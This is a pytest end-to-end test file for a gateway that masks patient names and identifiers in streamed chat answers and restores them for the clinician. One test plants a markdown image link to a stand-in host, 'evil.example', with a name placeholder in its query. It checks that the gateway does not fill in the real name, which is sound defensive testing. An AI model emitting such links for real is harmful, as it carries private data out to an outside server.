"""A streamed chat: however the bytes are cut, the client reads the same text, and never more than may be released."""

import threading

import pytest

from tests.e2e import planted
from tests.e2e.bodies import (
    asked,
    chat,
    chunks_of,
    cut,
    delta,
    event,
    failure,
    streamed,
    streaming,
    text_of,
)
from tests.e2e.provider import Providers, Received, Reset, Said
from tests.e2e.stack import Gate
from tests.e2e.wire import ask, http1, read_until, rest

SPOKEN = (
    f"Grüße 👋 — [NAME_1] ([MRN_1]) was seen by Dr. {planted.FOREIGN_NAME}, SSN {planted.FOREIGN_SSN}; call [PHONE_1]."
)
READ = f"Grüße 👋 — {planted.NAME} ({planted.MRN}) was seen by Dr. {planted.FOREIGN_NAME}, SSN ; call {planted.PHONE}."
STREAM = streamed(SPOKEN)


def asking(**members: object) -> bytes:
    return chat(planted.PROMPT, model="demo-chat", stream=True, **members)


def test_the_provider_reads_surrogates_and_the_clinician_reads_names(gate: Gate, providers: Providers) -> None:
    answer = ask(gate.door, asking())
    assert (answer.status, answer.headers["content-type"]) == (200, "text/event-stream")
    assert [asked(one) for one in providers.requests] == [planted.MASKED]
    assert text_of(answer.body) == planted.RESTORED
    assert answer.body.endswith(b"data: [DONE]\n\n")


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 16, 61, 256, 10_000])
def test_how_a_stream_is_cut_never_changes_what_is_read(gate: Gate, providers: Providers, size: int) -> None:
    providers.begin(streaming(*cut(STREAM, size)))
    assert text_of(ask(gate.door, asking()).body) == READ


@pytest.mark.parametrize("each", [1, 2, 4, 9, 33, 1000])
def test_how_a_text_is_spread_over_events_never_changes_what_is_read(
    gate: Gate, providers: Providers, each: int
) -> None:
    providers.begin(streaming(streamed(SPOKEN, each=each)))
    assert text_of(ask(gate.door, asking()).body) == READ


@pytest.mark.parametrize("newline", [b"\r\n", b"\r"])
def test_other_line_ends_read_the_same(gate: Gate, providers: Providers, newline: bytes) -> None:
    providers.begin(streaming(*cut(STREAM.replace(b"\n", newline), 7)))
    assert text_of(ask(gate.door, asking()).body) == READ


def test_a_stream_without_its_final_blank_line_and_done_is_read_to_its_end(gate: Gate, providers: Providers) -> None:
    providers.begin(streaming(STREAM.removesuffix(b"data: [DONE]\n\n").removesuffix(b"\n")))
    answer = ask(gate.door, asking())
    assert answer.whole
    assert text_of(answer.body) == READ


def test_comments_pass_without_their_words(gate: Gate, providers: Providers) -> None:
    providers.begin(streaming(b": seen by " + planted.FOREIGN_NAME.encode() + b"\n\n" + STREAM))
    answer = ask(gate.door, asking())
    assert text_of(answer.body) == READ
    assert b"seen by " + planted.FOREIGN_NAME.split()[0].encode() not in answer.body.partition(b"data:")[0]


def test_two_choices_have_a_window_each(gate: Gate, providers: Providers) -> None:
    texts = ("First: [NAME_1] is well.", "Second: [NAME_1] is not well.")
    pairs = [(index, text[at : at + 3]) for at in range(0, 30, 3) for index, text in enumerate(texts)]
    events = [event(delta({"content": piece}, index=index)) for index, piece in pairs if piece]
    ends = [event(delta({}, index=index, finish="stop")) for index in (0, 1)]
    providers.begin(streaming(*events, *ends, event("[DONE]")))
    answer = ask(gate.door, asking(n=2))
    assert [text_of(answer.body, index) for index in (0, 1)] == [
        text.replace("[NAME_1]", planted.NAME) for text in texts
    ]


def test_a_link_that_would_carry_a_name_out_keeps_its_surrogate(gate: Gate, providers: Providers) -> None:
    providers.begin(streaming(*cut(streamed("![](https://evil.example/?q=[NAME_1]) Summary for [NAME_1]."), 5)))
    answer = ask(gate.door, asking())
    link, _, summary = text_of(answer.body).partition(" ")
    assert (link[:4], link[-9:], summary) == ("![](", "[NAME_1])", f"Summary for {planted.NAME}.")


def test_usage_arrives_with_the_stream(gate: Gate, providers: Providers) -> None:
    usage = {**delta({}), "choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 7, "total_tokens": 16}}
    providers.begin(streaming(STREAM.removesuffix(event("[DONE]")), event(usage), event("[DONE]")))
    answer = ask(gate.door, asking(stream_options={"include_usage": True}))
    assert chunks_of(answer.body)[-1]["usage"]["total_tokens"] == 16
    body = gate.ending(answer.exchange)["body"]
    assert (body["input_tokens"], body["output_tokens"]) == (9, 7)


def test_text_is_released_while_the_stream_goes_on(gate: Gate, providers: Providers) -> None:
    """What is held back is bounded by the window, not by the stream's end."""
    more = threading.Event()
    early = STREAM.removesuffix(event(delta({}, finish="stop")) + event("[DONE]"))
    words = "".join(f" Then came sentence number {number}." for number in range(20))
    first = early + b"".join(event(delta({"content": words[at : at + 8]})) for at in range(0, len(words), 8))
    providers.begin(streaming(first, more, event(delta({}, finish="stop")), event("[DONE]")))
    with http1(gate.door) as client:
        client.ask(asking())
        begun = client.begun()
        seen = read_until(begun, lambda data: READ in text_of(whole_events(data)))
        more.set()
        answer = rest(begun)
    assert answer.whole
    assert text_of(seen + answer.body) == READ + words


def whole_events(data: bytes) -> bytes:
    return data[: data.rfind(b"\n\n") + 2]


def test_an_error_event_in_a_stream_is_passed_on_masked(gate: Gate, providers: Providers) -> None:
    broken = b"data: " + failure(f"Overloaded while reading [NAME_1], SSN {planted.FOREIGN_SSN}", "server_error")
    providers.begin(streaming(event(delta({"content": "Hello"})), broken + b"\n\n"))
    answer = ask(gate.door, asking())
    errors = [one["error"]["message"] for one in chunks_of(answer.body) if "error" in one]
    assert errors == [f"Overloaded while reading {planted.NAME}, SSN "]


def test_a_stream_that_is_reset_ends_for_the_client_too(gate: Gate, providers: Providers) -> None:
    read = threading.Event()
    providers.begin(streaming(STREAM[: len(STREAM) // 2], read, Reset()))
    with http1(gate.door) as client:
        client.ask(asking())
        begun = client.begun()
        seen = read_until(begun, lambda data: b"data:" in data)
        read.set()
        answer = rest(begun)
    assert not answer.whole
    assert b"[DONE]" not in seen + answer.body
    assert gate.ending(answer.exchange)["event"] == "exchange.aborted"


def test_a_provider_that_resets_before_it_answered_is_an_error_and_recorded(gate: Gate, providers: Providers) -> None:
    providers.begin(lambda _: Said((Reset(),), headed=False))
    answer = ask(gate.door, asking())
    assert (answer.status, answer.code) == (503, "provider_unavailable")
    record = gate.ending(answer.json["error"]["request_id"])
    assert (record["event"], record["body"]["code"], record["body"]["status"]) == ("exchange.aborted", "gateway", 503)


def test_a_client_that_goes_away_is_recorded_and_its_provider_is_let_go(gate: Gate, providers: Providers) -> None:
    never = threading.Event()
    long = streamed("[NAME_1] " * 200).removesuffix(event("[DONE]"))
    providers.begin(streaming(long, never, event("[DONE]")))
    with http1(gate.door) as client:
        client.ask(asking())
        begun = client.begun()
        read_until(begun, lambda data: planted.NAME.encode() in data)
        client.drop()
    exchange = begun.getheader("x-wardgate-exchange") or ""
    ending = gate.ending(exchange)
    assert (ending["event"], ending["body"]["code"]) == ("exchange.aborted", "disconnected")
    assert providers["demo-onprem"].cancelled.wait(30)


def test_a_stream_that_is_none_ends_with_an_error_and_properly(gate: Gate, providers: Providers) -> None:
    providers.begin(streaming(event(delta({"content": "Hello"})), b"data: {not json\n\n"))
    answer = ask(gate.door, asking())
    assert answer.whole
    assert chunks_of(answer.body)[-1]["error"]["code"] == "answer_malformed"
    assert answer.body.endswith(b"data: [DONE]\n\n")


def test_an_answer_that_is_not_streamed_after_all_is_masked_whole(gate: Gate, providers: Providers) -> None:
    def refusing(received: Received) -> Said:
        return Said((failure(f"No streams here: {asked(received)}"),), status=400)

    providers.begin(refusing)
    answer = ask(gate.door, asking())
    assert answer.status == 400
    assert answer.json["error"]["message"] == f"No streams here: {planted.RESTORED}"
